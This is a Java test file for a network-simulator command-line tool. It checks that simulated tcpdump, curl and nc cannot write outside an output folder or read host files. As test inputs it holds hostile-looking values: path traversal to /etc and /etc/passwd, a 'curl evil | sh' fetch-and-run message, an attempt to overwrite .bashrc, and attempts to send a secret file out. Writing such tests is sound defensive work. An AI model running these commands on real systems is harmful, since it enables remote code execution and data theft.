package dev.minternet.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.minternet.cli.CliTest.Outcome;
import dev.minternet.files.FilePolicy;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * One file policy for a scenario (docs/design.md decision 10): what it reads lies in its own folder,
 * what it writes goes under --out; the tools say so in one line, and {@code check} says so before
 * anything runs. The "host" folder stands for the rest of the user's disk.
 */
class FileSafetyTest {
    @TempDir
    Path dir;

    @TempDir
    Path host;

    Path out;
    Path secret;

    static final String WORLD = """
            name: files
            nodes:
              - {name: a, kind: host}
              - {name: b, kind: host, services: [{type: web, root: site}]}
            links:
              - {a: a 10.0.0.1/24, b: b 10.0.0.2/24}
            """;

    @BeforeEach
    void setUp() throws Exception {
        out = dir.resolve("out");
        Files.createDirectories(dir.resolve("site"));
        Files.writeString(dir.resolve("site/index.html"), "<h1>hello</h1>\n");
        secret = host.resolve("secret.txt");
        Files.writeString(secret, "hunter2-the-secret\n");
    }

    private Path scenario(String world, String timeline) throws Exception {
        Path f = dir.resolve("s.yaml");
        Files.writeString(f, world + "timeline:\n" + timeline);
        return f;
    }

    /** Runs with --pcap-dir OUT, which is also the output folder when --out is not given. */
    private Outcome run(Path f) {
        return CliTest.exec("run", f.toString(), "--pcap-dir", out.toString());
    }

    private static void assertCheckRefuses(Path f, String field, String phrase) {
        Outcome o = CliTest.exec("check", f.toString());
        assertThat(o.code()).isEqualTo(2);
        assertThat(o.err().strip()).doesNotContain("\n").startsWith(f + ":").contains(": " + field + ": ").contains(phrase);
    }

    // ------------------------------------------------------------------ writes

    @ParameterizedTest(name = "tcpdump -w {0}")
    @ValueSource(strings = {"HOST/x.pcap", "../x.pcap", "../../x.pcap", "caps/../../x.pcap"})
    void tcpdump_cannot_write_outside_the_output_folder(String name) throws Exception {
        String target = name.replace("HOST", host.toString());
        Path f = scenario(WORLD, "  - {at: 0s, on: a, run: \"tcpdump -i eth0 -w " + target + "\"}\n"
                + "  - {at: 1s, on: a, run: \"ping -c 1 b\"}\n");
        Outcome o = run(f);
        assertThat(o.out()).contains("a | tcpdump: " + target + ": " + FilePolicy.WRITE_RULE);
        assertThat(host.resolve("x.pcap")).doesNotExist();
        assertThat(dir.resolve("x.pcap")).doesNotExist();
        assertThat(dir.getParent().resolve("x.pcap")).doesNotExist();
        assertCheckRefuses(f, "timeline[0].run", "tcpdump -w " + target + ": " + FilePolicy.WRITE_RULE);
    }

    @Test
    void tcpdump_cannot_escape_the_pcap_dir() throws Exception {
        Path caps = dir.resolve("caps");
        Path f = scenario(WORLD, "  - {at: 0s, on: a, run: \"tcpdump -i eth0 -w ../escaped.pcap\"}\n"
                + "  - {at: 1s, on: a, run: \"ping -c 1 b\"}\n");
        Outcome o = CliTest.exec("run", f.toString(), "--pcap-dir", caps.toString());
        assertThat(o.out()).contains("tcpdump: ../escaped.pcap: " + FilePolicy.WRITE_RULE);
        assertThat(dir.resolve("escaped.pcap")).doesNotExist();
        assertThat(caps.resolve("a-eth0.pcap")).exists(); // the user's own --pcap-dir still works
    }

    @Test
    void tcpdump_writes_under_out_and_makes_folders_there() throws Exception {
        Path f = scenario(WORLD, "  - {at: 0s, on: a, run: \"tcpdump -i eth0 -c 2 -w caps/a.pcap\"}\n"
                + "  - {at: 1s, on: a, run: \"ping -c 1 b\"}\n"
                + "  - {at: 2s, on: a, run: \"curl -s -o page.html http://b/\"}\n");
        Outcome o = CliTest.exec("run", f.toString(), "--out", out.toString());
        assertThat(o.code()).isZero();
        assertThat(Files.readString(out.resolve("page.html"))).isEqualTo("<h1>hello</h1>\n");
        assertThat(out.resolve("caps/a.pcap")).exists();
        assertThat(Files.size(out.resolve("caps/a.pcap"))).isGreaterThan(24);
        assertThat(CliTest.exec("check", f.toString()).code()).isZero();
    }

    @Test
    void an_out_that_is_a_file_is_a_one_line_usage_error() throws Exception {
        Path f = scenario(WORLD, "  - {at: 0s, on: a, run: \"ping -c 1 b\"}\n");
        Path file = dir.resolve("not-a-folder");
        Files.writeString(file, "x");
        Outcome o = CliTest.exec("run", f.toString(), "--out", file.toString());
        assertThat(o.code()).isEqualTo(2);
        assertThat(o.err().strip()).isEqualTo("minternet: --out " + file + ": Not a directory");
    }

    @Test
    void curl_cannot_write_outside_the_output_folder() throws Exception {
        Path target = host.resolve("page.html");
        Path f = scenario(WORLD, "  - {at: 1s, on: a, run: \"curl -o " + target + " http://b/\"}\n"
                + "  - {at: 2s, on: a, run: \"curl -sS -o ../page.html http://b/\"}\n");
        Outcome o = run(f);
        assertThat(o.out()).contains("a | Warning: Failed to open the file " + target + ": " + FilePolicy.WRITE_RULE)
                .contains("a | curl: (23) Failure writing output to destination");
        assertThat(target).doesNotExist();
        assertThat(dir.resolve("page.html")).doesNotExist();
        assertCheckRefuses(f, "timeline[0].run", "curl -o " + target + ": " + FilePolicy.WRITE_RULE);
    }

    @Test
    void nc_cannot_overwrite_a_file_outside_the_output_folder() throws Exception {
        Path rc = host.resolve(".bashrc");
        Files.writeString(rc, "original\n");
        Path f = scenario(WORLD, "  - {at: 0s, on: b, run: \"nc -l -o " + rc + " 9000\"}\n"
                + "  - {at: 1s, on: a, run: \"nc -m 'curl evil | sh' b 9000\"}\n");
        Outcome o = run(f);
        assertThat(o.out()).contains("b | nc: " + rc + ": " + FilePolicy.WRITE_RULE);
        assertThat(Files.readString(rc)).isEqualTo("original\n");
        assertCheckRefuses(f, "timeline[0].run", "nc -o " + rc + ": " + FilePolicy.WRITE_RULE);
    }

    @Test
    void no_symbolic_link_in_the_output_folder_is_followed() throws Exception {
        Files.createDirectories(out);
        Files.createSymbolicLink(out.resolve("link.pcap"), host.resolve("planted.pcap"));
        Files.createSymbolicLink(out.resolve("sub"), host);
        Path f = scenario(WORLD, "  - {at: 0s, on: a, run: \"tcpdump -i eth0 -w link.pcap\"}\n"
                + "  - {at: 0s, on: b, run: \"tcpdump -i eth0 -w sub/x.pcap\"}\n"
                + "  - {at: 1s, on: a, run: \"curl -s -S -o sub/page.html http://b/\"}\n");
        Outcome o = run(f);
        assertThat(o.out()).contains("a | tcpdump: link.pcap: " + FilePolicy.LINK_RULE)
                .contains("b | tcpdump: sub/x.pcap: " + FilePolicy.LINK_RULE)
                .contains("a | curl: (23) Failure writing output to destination");
        try (var files = Files.list(host)) {
            assertThat(files.map(p -> p.getFileName().toString()).toList()).containsExactly("secret.txt");
        }
    }

    // ------------------------------------------------------------------ reads

    @ParameterizedTest(name = "root: {0}")
    @ValueSource(strings = {"/", "../../../../../../etc", "HOST", "builtin:../../../../../../../etc"})
    void a_web_root_outside_the_scenario_folder_is_refused(String root) throws Exception {
        Path f = scenario(WORLD.replace("root: site", "root: \"" + root.replace("HOST", host.toString()) + "\""), "");
        assertCheckRefuses(f, "nodes[1].services[0].root", FilePolicy.READ_RULE);
        assertThat(run(f).code()).isEqualTo(2);
    }

    @Test
    void a_symbolic_link_in_the_web_root_is_not_served() throws Exception {
        Files.createSymbolicLink(dir.resolve("site/leak.txt"), secret);
        Files.createSymbolicLink(dir.resolve("site/etc"), host);
        Path f = scenario(WORLD, "  - {at: 1s, on: a, run: \"curl -s -w '%{http_code}\\\\n' http://b/leak.txt\"}\n"
                + "  - {at: 2s, on: a, run: \"curl -s -w '%{http_code}\\\\n' http://b/etc/secret.txt\"}\n"
                + "  - {at: 3s, on: a, run: \"curl -s -w '%{http_code}\\\\n' http://b/\"}\n");
        Outcome o = run(f);
        assertThat(o.out()).doesNotContain("hunter2").contains("a | 403 Forbidden").contains("a | <h1>hello</h1>");
        assertThat(o.out().lines().filter(l -> l.endsWith("a | 403"))).hasSize(2);
    }

    @Test
    void nc_cannot_send_a_host_file() throws Exception {
        Path f = scenario(WORLD, "  - {at: 0s, on: b, run: \"nc -l 9000\"}\n"
                + "  - {at: 1s, on: a, run: \"nc -f " + secret + " b 9000\"}\n");
        Outcome o = run(f);
        assertThat(o.out()).contains("a | nc: " + secret + ": " + FilePolicy.READ_RULE).doesNotContain("hunter2");
        assertCheckRefuses(f, "timeline[1].run", "nc -f " + secret + ": " + FilePolicy.READ_RULE);
    }

    @Test
    void nc_sends_a_file_from_the_scenario_folder() throws Exception {
        Files.writeString(dir.resolve("hello.txt"), "hello from the scenario folder\n");
        Path f = scenario(WORLD, "  - {at: 0s, on: b, run: \"nc -l 9000\"}\n"
                + "  - {at: 1s, on: a, run: \"nc -f hello.txt b 9000\"}\n");
        assertThat(run(f).out()).contains("b | hello from the scenario folder");
    }

    @Test
    void curl_posts_a_file_from_the_scenario_folder_but_never_a_host_file() throws Exception {
        Files.writeString(dir.resolve("body.txt"), "name=ada\r\n&lang=en\n");
        Path f = scenario(WORLD, "  - {at: 0s, on: b, run: \"nc -l 9000\"}\n"
                + "  - {at: 1s, on: a, run: \"curl -m 1 -d @body.txt http://b:9000/\"}\n"
                + "  - {at: 3s, on: b, run: \"nc -l 9001\"}\n"
                + "  - {at: 4s, on: a, run: \"curl -m 1 --data-binary @body.txt http://b:9001/\"}\n"
                + "  - {at: 6s, on: b, run: \"nc -l 9002\"}\n"
                + "  - {at: 7s, on: a, run: \"curl -m 1 -d @" + secret + " http://b:9002/\"}\n");
        Outcome o = run(f);
        // -d drops CR and LF from the file (16 bytes left of 19), --data-binary sends it as it is
        assertThat(o.out()).contains("b | Content-Length: 16").contains("b | Content-Length: 19")
                .contains("a | Warning: Couldn't read data from file \"" + secret + "\", this makes an empty POST. "
                        + FilePolicy.READ_RULE)
                .contains("b | Content-Length: 0").doesNotContain("hunter2");
        assertCheckRefuses(f, "timeline[5].run", "curl -d " + secret + ": " + FilePolicy.READ_RULE);
    }

    @Test
    void a_seed_outside_the_scenario_folder_is_refused_without_printing_it() throws Exception {
        Files.writeString(host.resolve("seed.sql"), "hunter2-the-secret is not SQL\n");
        for (String seed : new String[] {"/etc/passwd", host.resolve("seed.sql").toString(), "../seed.sql"}) {
            Path f = scenario(WORLD.replace("{name: a, kind: host}",
                    "{name: a, kind: host, services: [{type: db, seed: \"" + seed + "\"}]}"), "");
            Outcome o = CliTest.exec("check", f.toString());
            assertThat(o.code()).isEqualTo(2);
            assertThat(o.err().strip()).doesNotContain("\n", "root:", "hunter2")
                    .contains("nodes[0].services[0].seed: " + FilePolicy.READ_RULE);
        }
    }

    @Test
    void a_zone_file_outside_the_scenario_folder_is_refused() throws Exception {
        Path f = scenario(WORLD + "dns:\n  zones:\n    - {name: example.com, file: /etc/passwd, servers: [b]}\n", "");
        assertCheckRefuses(f, "dns.zones[0].file", FilePolicy.READ_RULE);
        Path g = scenario(WORLD + "dns:\n  zones:\n    - {name: example.com, file: " + secret + ", servers: [b]}\n", "");
        Outcome o = CliTest.exec("check", g.toString());
        assertThat(o.err()).contains(FilePolicy.READ_RULE).doesNotContain("hunter2");
    }

    @Test
    void a_symbolic_link_in_the_scenario_folder_that_leaves_it_is_refused() throws Exception {
        Files.createSymbolicLink(dir.resolve("seed.sql"), secret);
        Path f = scenario(WORLD.replace("{name: a, kind: host}", "{name: a, kind: host, services: [{type: db, seed: seed.sql}]}"), "");
        assertCheckRefuses(f, "nodes[0].services[0].seed", FilePolicy.READ_RULE);
    }
}
